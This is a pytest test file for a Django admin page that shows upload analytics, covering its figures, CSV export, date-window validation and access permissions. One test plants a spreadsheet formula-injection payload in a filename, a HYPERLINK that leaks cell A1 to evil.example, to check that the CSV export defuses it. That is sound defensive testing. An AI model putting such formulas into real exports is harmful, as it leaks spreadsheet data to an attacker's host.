"""The analytics page: its figures against counts made by hand, its CSV, and who may see it."""

import csv
import io
import re
from datetime import date

import pytest
from django.contrib.auth.models import Permission

from tests.fixtures.analytics import (
    BAD_IMAGE,
    DAY_ONE,
    DAY_THREE,
    DAY_TWO,
    NOT_A_ZIP,
    MiB,
    analytics_uploads,
    at,
    figure,
    make_upload,
    rows,
)
from uploads.core.models import Upload
from uploads.reports.analytics import Window, upload_section
from uploads.reports.charts import svg

pytestmark = pytest.mark.django_db

PAGE = "/admin/uploads/uploadanalytics/"
REPORT = "/admin/uploads/upload/report/"
WINDOW = {"window": "custom", "first_day": "2026-03-02", "last_day": "2026-03-04"}


def test_the_figures_of_all_purposes_match_a_count_made_by_hand(alice):
    analytics_uploads(alice)

    section = upload_section(Window(DAY_ONE, DAY_THREE))

    assert rows(section, "uploads-per-day") == [
        # day, started, ready, failed, aborted, expired, still open
        [DAY_ONE, 4, 3, 1, 0, 0, 0],
        [DAY_TWO, 4, 0, 1, 1, 1, 1],
        [DAY_THREE, 0, 0, 0, 0, 0, 0],
    ]
    assert rows(section, "completion-rate") == [
        [DAY_ONE, 75.0, 3, 4],
        [DAY_TWO, 0.0, 0, 3],
        [DAY_THREE, None, 0, 0],
    ]
    assert dict(section.headline) == {
        "Uploads started": "8",
        "Completion rate": "42.9%",  # 3 ready of 7 ended
        "Ready": "3",
        "Failed": "2",
        "Aborted": "1",
        "Expired": "1",
        "Still open": "1",
        "Time to ready, median": "12.0 s",  # of 12, 25 and 2 s
        "Bytes stored in the window": "51.0 MB",
        "Bytes stored in total": "211.0 MB",  # and the two ready ones outside the window
        "Parts retried": "5",
        "Uploads resumed": "1",
    }
    assert rows(section, "failure-reasons") == [[BAD_IMAGE, 1], [NOT_A_ZIP, 1]]


def test_the_figures_of_one_purpose_match_a_count_made_by_hand(alice):
    uploads = analytics_uploads(alice)

    section = upload_section(Window(DAY_ONE, DAY_THREE, purpose="version_file"))

    assert rows(section, "uploads-per-day") == [
        [DAY_ONE, 3, 2, 1, 0, 0, 0],
        [DAY_TWO, 3, 0, 0, 1, 1, 1],
        [DAY_THREE, 0, 0, 0, 0, 0, 0],
    ]
    # Start to ready took 12 and 25 s on day one: p50 18.5, p95 12 + 13 × 0.95.
    (one, two, three) = rows(section, "time-to-ready")
    assert one[0] == DAY_ONE and one[1:] == pytest.approx([18.5, 24.35])
    assert two == [DAY_TWO, None, None] and three == [DAY_THREE, None, None]
    # 10 MB in 10 s, 40 MB in 20 s, 8 MB in 4 s.
    assert [row[-1] for row in rows(section, "throughput")] == [0, 0, 1, 2, 0, 0, 0, 0, 0]
    assert [row[0] for row in rows(section, "throughput")][2:4] == ["1–2", "2–5"]
    assert rows(section, "bytes-stored") == [[DAY_ONE, 50_000_000], [DAY_TWO, 0], [DAY_THREE, 0]]
    assert rows(section, "client-trouble") == [[DAY_ONE, 2, 1], [DAY_TWO, 3, 0], [DAY_THREE, 0, 0]]
    assert rows(section, "worker-time")[0] == [DAY_ONE, 1.5, 2.5]
    assert rows(section, "worker-time")[1] == [DAY_TWO, None, None]
    assert rows(section, "worker-memory")[0] == [DAY_ONE, 100 * MiB, 150 * MiB]
    assert rows(section, "failure-reasons") == [[NOT_A_ZIP, 1]]
    slowest = figure(section, "slowest-uploads")
    assert [(row[0], row[3]) for row in slowest.rows] == [
        (uploads["big map"].filename, 25.0),
        (uploads["map"].filename, 12.0),
    ]
    assert slowest.links[0] == f"/admin/uploads/upload/{uploads['big map'].pk}/change/"
    largest = [row[0] for row in rows(section, "largest-uploads")]
    names = ["big map", "map", "not a zip", "given up", "forgotten", "going"]
    assert largest == [uploads[name].filename for name in names]
    assert dict(section.headline)["Bytes stored in total"] == "210.0 MB"
    assert dict(section.headline)["Completion rate"] == "40.0%"  # 2 ready of 5 ended


def test_an_empty_window_has_zeros_and_gaps_and_divides_by_nothing(alice):
    analytics_uploads(alice)

    section = upload_section(Window(date(2025, 1, 1), date(2025, 1, 2)))

    assert [row[1:] for row in rows(section, "uploads-per-day")] == [[0] * 6, [0] * 6]
    assert [row[1] for row in rows(section, "completion-rate")] == [None, None]
    assert [row[1:] for row in rows(section, "time-to-ready")] == [[None, None]] * 2
    assert all(row[-1] == 0 for row in rows(section, "throughput"))
    assert rows(section, "failure-reasons") == []
    assert rows(section, "slowest-uploads") == [] and rows(section, "largest-uploads") == []
    headline = dict(section.headline)
    assert headline["Completion rate"] == "—" and headline["Time to ready, median"] == "—"
    assert headline["Bytes stored in total"] == "211.0 MB"


def test_the_page_draws_every_figure_and_links_its_csv(admin_client, alice):
    analytics_uploads(alice)

    response = admin_client.get(PAGE, WINDOW)

    assert response.status_code == 200
    page = response.content.decode()
    for slug in ["uploads-per-day", "completion-rate", "time-to-ready", "throughput",
                 "bytes-stored", "client-trouble", "worker-time", "worker-memory",
                 "downloads-per-day"]:  # fmt: skip
        assert f'id="figure-{slug}"' in page, slug
        assert f"csv={slug}" in page, slug
    assert page.count('<svg class="s7-chart"') == 9
    assert "2026-03-02 · ready: 3" not in page  # bars are labelled by short dates
    assert "Mar 2 · ready: 3</title>" in page
    assert NOT_A_ZIP in page


def test_the_csv_holds_the_same_figures(admin_client, alice):
    analytics_uploads(alice)

    response = admin_client.get(
        PAGE, {**WINDOW, "purpose": "version_file", "csv": "uploads-per-day"}
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert (
        "uploads-per-day_2026-03-02_2026-03-04_version_file.csv"
        in (response["Content-Disposition"])
    )
    table = list(csv.reader(io.StringIO(response.content.decode())))
    assert table == [
        ["day", "started", "ready", "failed", "aborted", "expired", "still open"],
        ["2026-03-02", "3", "2", "1", "0", "0", "0"],
        ["2026-03-03", "3", "0", "0", "1", "1", "1"],
        ["2026-03-04", "0", "0", "0", "0", "0", "0"],
    ]
    gaps = admin_client.get(PAGE, {**WINDOW, "csv": "time-to-ready"}).content.decode().splitlines()
    assert gaps[-1] == "2026-03-04,,"  # no uploads: an empty cell, not a zero


def test_the_first_visit_shows_the_last_seven_days(admin_client):
    response = admin_client.get(PAGE)

    assert response.status_code == 200
    window = response.context["window"]
    assert (window.last_day - window.first_day).days == 6 and window.purpose is None


@pytest.mark.parametrize(
    "query, message",
    [
        ({"window": "custom", "first_day": "2026-03-04", "last_day": "2026-03-02"},
         "must not be after"),
        ({"window": "custom", "first_day": "2026-03-04"}, "needs both"),
        ({"window": "custom", "first_day": "2020-01-01", "last_day": "2026-01-01"}, "at most"),
        ({"window": "365"}, "Select a valid choice"),
        ({"purpose": "nonsense"}, "Select a valid choice"),
        ({"window": "custom", "first_day": "yesterday", "last_day": "2026-01-01"}, "valid date"),
    ],
)  # fmt: skip
def test_a_bad_window_is_a_form_error(admin_client, query, message):
    response = admin_client.get(PAGE, query)

    assert response.status_code == 400
    assert message in response.content.decode()


def test_an_unknown_figure_is_not_found(admin_client):
    assert admin_client.get(PAGE, {"csv": "nonsense"}).status_code == 404


def test_it_is_linked_from_the_admin_index_and_the_upload_list(admin_client):
    assert PAGE in admin_client.get("/admin/").content.decode()
    assert PAGE in admin_client.get("/admin/uploads/upload/").content.decode()


def test_strangers_are_sent_to_sign_in(client, alice):
    assert client.get(PAGE).status_code == 302
    assert client.get(PAGE)["Location"].startswith("/admin/login/")
    client.force_login(alice)  # signed in, not staff
    response = client.get(PAGE, {"csv": "uploads-per-day"})
    assert response.status_code == 302 and response["Location"].startswith("/admin/login/")


def test_staff_without_the_permission_are_refused(client, alice):
    alice.is_staff = True
    alice.save()
    client.force_login(alice)
    assert client.get(PAGE).status_code == 403
    assert client.get(PAGE, {"csv": "uploads-per-day"}).status_code == 403

    alice.user_permissions.add(Permission.objects.get(codename="view_uploadanalytics"))
    assert client.get(PAGE).status_code == 200


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_start_a_formula_are_written_as_text(admin_client, alice, start):
    uploads = analytics_uploads(alice)
    name = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"click")'
    Upload.objects.filter(pk=uploads["big map"].pk).update(filename=name)

    response = admin_client.get(PAGE, {**WINDOW, "csv": "largest-uploads"})

    table = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert table[1][0] == "'" + name  # the largest upload: the apostrophe makes it text
    assert table[2][0] == uploads["map"].filename  # an ordinary name is left as it is
    assert table[1][2] == "40000000"  # and numbers stay numbers


def test_the_selector_shows_the_window_the_page_covers_when_none_is_chosen(admin_client):
    for query in [{}, {"purpose": "version_file"}, {"window": ""}]:
        response = admin_client.get(PAGE, query)

        assert response.status_code == 200, query
        window = response.context["window"]
        assert (window.last_day - window.first_day).days == 6, query
        page = response.content.decode()
        assert '<option value="7" selected>Last 7 days</option>' in page, query
        assert '<option value="1">Today</option>' in page, query


def test_the_report_takes_the_analytics_permission_too(client, alice):
    alice.is_staff = True
    alice.save()
    alice.user_permissions.add(Permission.objects.get(codename="view_upload"))
    client.force_login(alice)

    assert client.get(REPORT).status_code == 403
    listing = client.get("/admin/uploads/upload/").content.decode()
    assert REPORT not in listing and PAGE not in listing  # no links to pages refused

    alice.user_permissions.add(Permission.objects.get(codename="view_uploadanalytics"))
    assert client.get(REPORT).status_code == 200
    listing = client.get("/admin/uploads/upload/").content.decode()
    assert REPORT in listing and PAGE in listing


def test_axis_labels_of_large_counts_are_short_enough_to_fit(alice):
    # More than the API takes for one upload, summed over a day: the column's largest value.
    for hour in range(10):
        make_upload(alice, created=at(DAY_ONE, hour), state="ready", size=1,
                    parts_retried=2**31 - 1)  # fmt: skip

    trouble = figure(upload_section(Window(DAY_ONE, DAY_THREE)), "client-trouble")
    chart = str(svg(trouble))

    labels = re.findall(r'text-anchor="end">([^<]*)</text>', chart)
    assert labels == ["0", "6.25bn", "12.5bn", "18.75bn", "25bn"]
    assert "21,474,836,470</title>" in chart  # a point's own title keeps the exact count
